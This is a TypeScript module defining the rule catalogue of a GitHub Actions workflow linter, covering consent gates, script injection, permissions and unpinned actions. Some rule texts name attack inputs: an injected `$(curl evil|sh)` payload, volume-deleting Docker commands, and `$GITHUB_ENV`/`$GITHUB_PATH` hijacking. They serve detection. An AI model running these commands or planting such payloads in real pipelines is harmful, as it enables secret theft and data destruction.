/**
 * The catalogue of lint-workflows rules (docs/architecture.md §9). Each rule has a stable ID (never reused or
 * renumbered: workflows and code-scanning alerts refer to it), a name, a default severity and the
 * what / why / how-to-fix that docs/rules.md and the SARIF rule help both show. A unit test keeps
 * docs/rules.md in step with this list.
 */
export type Severity = 'error' | 'warning';

export interface RuleDef {
  readonly id: string;
  readonly name: string;
  readonly severity: Severity;
  /** one line: what is wrong */
  readonly summary: string;
  readonly why: string;
  readonly fix: string;
  /** whether actionlint or zizmor also report it (docs/rules.md says the same) */
  readonly coveredBy: string;
}

export const RULES = [
  {
    id: 'SG000',
    name: 'workflow-schema',
    severity: 'error',
    summary: 'The workflow does not match the GitHub Actions workflow schema, or an expression in it is invalid.',
    why:
      "These errors come from GitHub's own workflow parser (@actions/workflow-parser): the runner would refuse " +
      'the file or evaluate something other than what was written. No other rule can be trusted on a file the runner ' +
      'reads differently.',
    fix: 'Correct the key, value or `${{ }}` expression at the reported position, as the message says.',
    coveredBy:
      'actionlint checks the workflow schema and `${{ }}` expressions too (with its own implementation); zizmor does ' +
      'not validate the schema.',
  },
  {
    id: 'SG001',
    name: 'workflow-yaml',
    severity: 'error',
    summary:
      'The file is not a readable workflow: YAML syntax error, not valid UTF-8, larger than 1 MiB, more than one ' +
      'document, not a mapping, or aliases that expand too much.',
    why: 'A workflow that cannot be read safely cannot be checked; stateguard fails closed rather than skipping it.',
    fix:
      'Fix the YAML at the reported position. Keep one workflow per file, UTF-8, under 1 MiB, and use ' +
      'anchors/aliases sparingly.',
    coveredBy:
      "actionlint reports YAML syntax errors too; the size, UTF-8, single-document and alias limits are stateguard's.",
  },
  {
    id: 'SG002',
    name: 'lint-suppression',
    severity: 'error',
    summary:
      'An inline suppression (`# stateguard-lint: ignore SGnnn -- reason`) has no reason, names an unknown rule or ' +
      'one that cannot be suppressed (SG001, SG002), or is not an `ignore` directive.',
    why:
      'A suppression is a deliberate exception someone must be able to review: without a reason nobody can judge ' +
      'it later, and a mistyped rule ID would silently suppress nothing. The problem it meant to suppress is still ' +
      'reported.',
    fix:
      'Write `# stateguard-lint: ignore SG106 -- why this is safe here` on the line of the problem or the line ' +
      'above it; several rules: `ignore SG106, SG201 -- reason`.',
    coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
  },
  {
    id: 'SG101',
    name: 'apply-automatic-trigger',
    severity: 'error',
    summary:
      'A stateguard command that changes or stops stateful modules or deletes their backups (`apply`, ' +
      '`stateful-apply`, `restore`, `recover`, `upgrade`, `snapshot`, `prune-backups`, or a command given by an ' +
      'expression or variable), as an action step or as a CLI call in `run:`, is reachable from a trigger other ' +
      'than `workflow_dispatch` (a `snapshot` or `prune-backups` may also run on `schedule`: scheduled backups ' +
      'and their retention are routine; they may not run on a push or a pull request).',
    why:
      'Only a human, through `workflow_dispatch`, may change a stateful module: a push, a pull request, a ' +
      'schedule or a calling workflow would apply without anyone typing the confirm token and naming a verified ' +
      'backup. `if:` conditions are not trusted to restrict triggers (they are easy to get wrong); `workflow_call` ' +
      'counts as automatic because the caller can be triggered by anything.',
    fix:
      'Move the apply job to its own workflow whose only trigger is `on: workflow_dispatch`; keep `plan` in the ' +
      'pull-request workflow.',
    coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
  },
  {
    id: 'SG102',
    name: 'apply-input-hardcoded',
    severity: 'error',
    summary:
      "`confirm`, `backup-ref` or `allow-stateful` of an apply (the step's `with:`, or " +
      '`--confirm`/`--backup-ref`/`--allow-stateful` of a CLI call in `run:`) is hard-coded instead of taken from ' +
      'a workflow input, directly or through `env:`.',
    why:
      "These three values are the operator's explicit consent, the backup they vouch for and the exact confirm " +
      'token. Written into the workflow, they consent once for every future run.',
    fix:
      'Pass each one from a `workflow_dispatch` input, e.g. `allow-stateful: ${{ inputs.allow_stateful }}`, ' +
      '`backup-ref: ${{ inputs.backup_ref }}`, `confirm: ${{ inputs.stateful_confirm }}` (or ' +
      '`github.event.inputs.*`). In a `run:`, pass the input through `env:` and write `--confirm "$CONFIRM"`; ' +
      '`--allow-stateful` alone means true, so write `--allow-stateful="$ALLOW"`.',
    coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
  },
  {
    id: 'SG103',
    name: 'dispatch-input-unsafe',
    severity: 'error',
    summary:
      'A workflow input that feeds consent (`allow_stateful`, `stateful_confirm`, `backup_ref`, or an input of any ' +
      'name that reaches `allow-stateful`, `confirm` or `backup-ref`) is unsafe: the allow input is not `type: ' +
      'boolean` with `default: false`, or a confirm or backup input is not `required: true` or has a default.',
    why:
      'A consent input that defaults to yes, or a confirm token or backup reference filled in by default, lets a ' +
      'run apply to stateful data without the operator deciding it. Renaming the input changes nothing: it is ' +
      'followed from `workflow_dispatch` and `workflow_call` inputs through `with:` and `env:` to the flag it ' +
      'feeds, and a default equal to the confirm token confirms every run.',
    fix:
      'Declare the allow input as `{type: boolean, default: false}`, and the confirm and backup inputs with ' +
      '`required: true` and no `default`, whatever they are called.',
    coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
  },
  {
    id: 'SG104',
    name: 'apply-concurrency',
    severity: 'error',
    summary:
      'A job running a mutating stateguard command has no `concurrency` group (job or workflow level), a group that ' +
      'is different for every run (it reads `github.run_id`, `run_number` or `run_attempt`), or sets ' +
      '`cancel-in-progress` to anything but `false`.',
    why:
      'Two applies to the same module at once race on its data; a group unique to each run serialises nothing; ' +
      'cancelling an apply mid-way is a crash in the middle of a change.',
    fix:
      'Add `concurrency: { group: stateful-apply-${{ inputs.module }}, cancel-in-progress: false }` to the apply ' +
      'job.',
    coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
  },
  {
    id: 'SG105',
    name: 'gate-continue-on-error',
    severity: 'error',
    summary:
      'A guard, verify-backup, e2e-gate or apply step (or the job holding it) has `continue-on-error` set to ' +
      'anything but `false`.',
    why:
      'These steps exist to say no. With `continue-on-error: true` a "no" turns into a green check and the ' +
      'workflow goes on as if the gate had passed.',
    fix:
      "Remove `continue-on-error` from the step and its job. To react to a refusal, branch on the step's " +
      '`failure-reason` output in a later step with `if: failure()`.',
    coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
  },
  {
    id: 'SG106',
    name: 'compose-volume-removal',
    severity: 'error',
    summary:
      'A `run:` deletes or recreates Docker volumes: `docker compose`/`docker-compose` with `down`/`rm` ' +
      '`-v`/`--volumes`, `-V`/`--renew-anon-volumes` or `-y`/`--yes`; `docker volume rm`/`prune`; `docker system ' +
      'prune --volumes`; `docker rm -v`. Checked in every workflow.',
    why:
      'These commands delete or recreate volumes, or answer yes to compose\'s "data will be lost" prompt: exactly ' +
      'the data stateguard exists to protect, in any workflow. The script is read the way a shell reads it (quotes, ' +
      'docker and compose global options such as `--context` or `-p`, a command kept in a variable such as ' +
      '`DC="docker compose"; $DC down -v`, `sudo`, `bash -c \'\u2026\'`, `$( )`), not matched as text.',
    fix:
      'Drop the flag (`docker compose down` keeps named volumes). Change a stateful service only through ' +
      "stateguard's guarded apply; remove a volume by hand after a verified backup. For a deliberate exception, such " +
      'as a throw-away test stack, suppress it on that line with the reason: `# stateguard-lint: ignore SG106 -- ' +
      '<why this is safe>`.',
    coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
  },
  {
    id: 'SG107',
    name: 'dispatch-consent-prefilled',
    severity: 'error',
    summary:
      'A workflow with an automatic trigger dispatches a workflow with consent filled in: `gh workflow run … -f ' +
      'allow_stateful=true` (or `--field`/`-F`/`--raw-field`, or `stateful_confirm=…`/`restore_confirm=…`), ' +
      '`gh api …/dispatches` or `curl …/dispatches` with such inputs, or actions/github-script ' +
      '`createWorkflowDispatch` with ' +
      '`allow_stateful`.',
    why:
      'SG101 keeps the apply on `workflow_dispatch`, but a push, schedule or workflow_run that dispatches the ' +
      'apply workflow with `allow_stateful` and the confirm token already set is the same automatic apply, one hop ' +
      'away: consent filled in by automation is no consent. `if:` conditions are not trusted to restrict triggers.',
    fix:
      'Dispatch without consent inputs (the operator ticks `allow_stateful` and types the confirm token when they ' +
      'run the apply workflow by hand), or dispatch from a workflow triggered only by `workflow_dispatch` that ' +
      'passes on its own operator-typed inputs.',
    coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
  },
  {
    id: 'SG108',
    name: 'restore-confirm-derived',
    severity: 'error',
    summary:
      "The `confirm` of a restore (the step's `with:`, or `--confirm` of a CLI call in `run:`) is computed from the " +
      'backup it restores: the same input feeds `backup-ref` and `confirm`, or the confirm reads the backup input, ' +
      'an `env:` or shell variable set from it, or a step output computed from it (`${{ inputs.backup_ref }}`, ' +
      '`${{ format(…, inputs.backup_ref) }}`, `--confirm "$(basename "$BACKUP_REF")"`, `--confirm "$BACKUP_REF"`).',
    why:
      "A restore replaces a module's data with a backup. Its confirm is the backup's file name (e.g. " +
      '`store-20261129T120000Z.tar.gz`) typed by the operator separately from the backup reference, so that a ' +
      'mistyped or wrong backup is refused before anything is stopped. A workflow that derives the confirm from the ' +
      'backup reference always confirms whatever backup was named: the check no longer checks anything.',
    fix:
      'Give the confirm its own `workflow_dispatch` input, `required: true` with no `default` (e.g. ' +
      '`restore_confirm`, described as "type the backup\'s file name exactly"), and pass it as ' +
      '`confirm: ${{ inputs.restore_confirm }}` (in a `run:`, through `env:` as `--confirm "$CONFIRM"`). See ' +
      '`workflows/restore.yml`.',
    coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
  },
  {
    id: 'SG201',
    name: 'script-injection',
    severity: 'error',
    summary:
      'An expression that reads untrusted data (`github.event.*`, `github.head_ref`, `inputs.*`, a whole context as ' +
      'in `toJSON(github.event)`, `env.X` where X was set from such data at workflow, job or step level, a step ' +
      'output of a step that reads such data, a job output or matrix value built from it) is interpolated into a ' +
      '`run:` script or an input that an action runs as code (actions/github-script `script`, azure/cli ' +
      '`inlineScript`, mikefarah/yq `cmd`, \u2026: the table in docs/rules.md). Values that cannot carry a payload ' +
      '(numbers, ids, SHAs and booleans of the event, the result of a comparison or of ' +
      '`contains()`/`startsWith()`/`endsWith()`, `boolean`/`number`/`choice` inputs) are not untrusted. Context ' +
      "names are case-insensitive, as in GitHub's expression parser.",
    why:
      'The expression is pasted into the script text before the shell or JavaScript parses it: a branch name or ' +
      "title such as `$(curl evil|sh)` runs as code with the job's token and secrets.",
    fix:
      'Pass the value through `env:` (`env: { TITLE: ${{ github.event.pull_request.title }} }`) and use ' +
      '`"$TITLE"` (or `process.env.TITLE`) in the script.',
    coveredBy:
      'Partly. actionlint reports untrusted `github.event.*`/`github.head_ref` inputs in `run:` and github-script; ' +
      "zizmor's template-injection audit reports expressions in `run:` more broadly (its own set of contexts and " +
      'confidence levels). Following the taint through `env:` into `${{ env.X }}` and treating `inputs.*` as ' +
      "untrusted is stateguard's.",
  },
  {
    id: 'SG202',
    name: 'permissions',
    severity: 'error',
    summary: 'The workflow has no top-level `permissions`, or grants `write-all` (top level or job).',
    why:
      'Without `permissions` the token gets the repository default, often write to everything; a compromised step ' +
      'can then push code or rewrite workflows.',
    fix:
      'Add a top-level `permissions:` with the least the workflow needs (e.g. `contents: read`) and widen per job ' +
      'only where needed (e.g. `pull-requests: write` for the plan comment).',
    coveredBy:
      "zizmor's excessive-permissions audit (missing or broad permissions); actionlint only checks that permission " +
      'scopes are valid.',
  },
  {
    id: 'SG203',
    name: 'untrusted-checkout',
    severity: 'error',
    summary:
      '`pull_request_target`, `workflow_run` or `issue_comment` together with an actions/checkout of the pull ' +
      "request's head or merge commit (`refs/pull/…`, `merge_commit_sha`), or a `run:` that fetches it " +
      '(`gh pr checkout`, `git fetch … pull/<n>/head`).',
    why:
      "Those triggers run with the base repository's secrets and a write token; checking out the PR head then " +
      'runs the contributor\'s code with them ("pwn request").',
    fix:
      "Use the `pull_request` trigger for anything that builds or runs the PR's code, or check out only the base " +
      'ref in the privileged workflow.',
    coveredBy:
      "zizmor's dangerous-triggers audit flags `pull_request_target`/`workflow_run` themselves (more broadly); " +
      'actionlint does not.',
  },
  {
    id: 'SG301',
    name: 'action-not-pinned',
    severity: 'warning',
    summary: '`uses:` does not pin the action or reusable workflow to a full 40-character commit SHA.',
    why:
      'A tag or branch can be moved to other code at any time; only a commit SHA names exactly the code that runs ' +
      'with your secrets.',
    fix:
      'Pin to the commit SHA and keep the tag in a comment: `uses: actions/checkout@<40-hex-sha> # v4`. Local ' +
      '`./` actions and `docker://` images with a `@sha256:` digest are exempt.',
    coveredBy: "zizmor's unpinned-uses audit; actionlint does not.",
  },
  // --- issue 29, repository part: local composite actions, modules/, placeholder pins ---
  {
    id: 'SG003',
    name: 'local-action-unreadable',
    severity: 'error',
    summary:
      'A step uses a local action (`uses: ./path`) that cannot be checked: it does not exist, has no readable ' +
      '`action.yml`/`action.yaml` (missing, larger than 1 MiB, not valid YAML, no `runs.using`), leaves the ' +
      'repository (`./../…` or a symbolic link), calls itself, or is nested deeper than 8 local actions (or more ' +
      'than 512 uses are followed from one workflow).',
    why:
      "A composite action's steps run in the workflow's job, with its token and secrets: an injection or a " +
      "volume removal in them is the workflow's. stateguard follows local actions to check them (with the " +
      'values the caller passes as their inputs); one it cannot read is a "no", not a pass.',
    fix:
      'Correct the `uses:` path, keep the action inside the repository with a readable `action.yml` that declares ' +
      '`runs.using`, and remove cycles or flatten deep nesting. An action an earlier step checks out (another ' +
      'repository into `./path`) cannot be read when linting: suppress SG003 on that line with the reason.',
    coveredBy:
      'Neither actionlint nor zizmor refuses an unreadable local action; actionlint reads local actions for their ' +
      'inputs, and both follow them less far.',
  },
  {
    id: 'SG109',
    name: 'stateful-change-outside-stateguard',
    severity: 'error',
    summary:
      'In a repository with `modules/`, a `run:` pulls or (re)creates the service of a stateful module outside ' +
      'stateguard: `docker compose pull|up` or `docker-compose pull|up` naming the service (or no service, in the ' +
      "module's project or compose file), or `docker stack deploy` of its stack. A project, file or service given " +
      'by a variable counts as the module.',
    why:
      "Pulling a new image or recreating a stateful module's container changes its data with no guard, no verified " +
      'backup and no consent: the change stateguard exists to guard, done around it (for example by a scheduled ' +
      '"refresh" job).',
    fix:
      "Change stateful modules only with stateguard's `upgrade` or `apply` from a `workflow_dispatch` workflow; " +
      'leave their services out of other compose commands (name the stateless services), or suppress a deliberate ' +
      'exception with its reason.',
    coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
  },
  {
    id: 'SG110',
    name: 'unknown-module',
    severity: 'error',
    summary:
      'In a repository with `modules/`, a stateguard action step (`with: module: X`) or CLI call (`stateguard ' +
      '<command> --module X`) names a module that no `modules/*/module.yaml` declares.',
    why:
      'The run would be refused at the last moment (or, after a rename, aim at a module that no longer exists): a ' +
      'mistyped module name in a workflow is found before anyone depends on it.',
    fix: 'Correct the module name to one declared under `modules/`, or add the module.yaml it names.',
    coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
  },
  {
    id: 'SG111',
    name: 'placeholder-pin',
    severity: 'error',
    summary:
      'A workflow in a directory the runner reads (`.github/workflows`, `.forgejo/workflows`, `.gitea/workflows`) ' +
      'pins an action to the placeholder commit `@0000000000000000000000000000000000000000`.',
    why:
      "The ready-to-copy templates in stateguard's `workflows/` carry that placeholder on purpose, with a comment " +
      'asking you to pin the release you audited; copied as is, the runner cannot fetch the action and the ' +
      'workflow fails when it is needed. Templates outside those directories are linted as templates.',
    fix:
      'Replace the zeros with the commit SHA of the stateguard release you audited: ' +
      '`uses: <owner>/stateguard/actions/<name>@<40-hex-sha> # v1`.',
    coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
  },
  // --- issue 29, lint-taint: attacker data written to the runner's environment files ---
  {
    id: 'SG204',
    name: 'env-file-injection',
    severity: 'error',
    summary:
      'In a workflow triggered by `pull_request_target`, `issue_comment` or `workflow_run`, a `run:` writes ' +
      'attacker data (`github.event.*`, `github.head_ref`, a string input, `$GITHUB_EVENT_PATH`, or a variable, ' +
      'step output or job output set from them) to `$GITHUB_ENV`, `$GITHUB_OUTPUT` or `$GITHUB_PATH`.',
    why:
      "Those triggers run with the base repository's secrets and a write token on an outsider's event. A value " +
      'written to `$GITHUB_ENV` can hold a newline and set any variable (`LD_PRELOAD`, `NODE_OPTIONS`, `BASH_ENV`) ' +
      "for every later step; one written to `$GITHUB_PATH` puts a directory of the attacker's choosing first on " +
      'the PATH; one written to `$GITHUB_OUTPUT` can set other outputs that later steps trust.',
    fix:
      'Do not write the value to these files: pass it through `env:` to the step that needs it and quote it there ' +
      '(`"$TITLE"`), or check it against a strict pattern first (e.g. `[[ "$N" =~ ^[0-9]+$ ]]`) and write only ' +
      'what passed; numbers, SHAs and booleans of the event are not attacker data.',
    coveredBy:
      "zizmor's github-env audit reports writes to `GITHUB_ENV`/`GITHUB_PATH` under dangerous triggers; " +
      "actionlint does not. Following the data through step and job outputs and shell variables is stateguard's.",
  },
] as const satisfies readonly RuleDef[];

export type RuleId = (typeof RULES)[number]['id'];

const BY_ID = new Map<string, RuleDef>(RULES.map((r) => [r.id, r]));

export function ruleById(id: RuleId): RuleDef {
  return BY_ID.get(id)!;
}

export interface Problem {
  file: string;
  line: number;
  column: number;
  rule: RuleId;
  severity: Severity;
  message: string;
}

/** A problem an inline `# stateguard-lint: ignore` comment suppressed, with the reason given there. */
export interface SuppressedProblem extends Problem {
  reason: string;
}

export function compareProblems(a: Problem, b: Problem): number {
  return a.file < b.file
    ? -1
    : a.file > b.file
      ? 1
      : a.line - b.line ||
        a.column - b.column ||
        (a.rule < b.rule ? -1 : a.rule > b.rule ? 1 : a.message < b.message ? -1 : a.message > b.message ? 1 : 0);
}
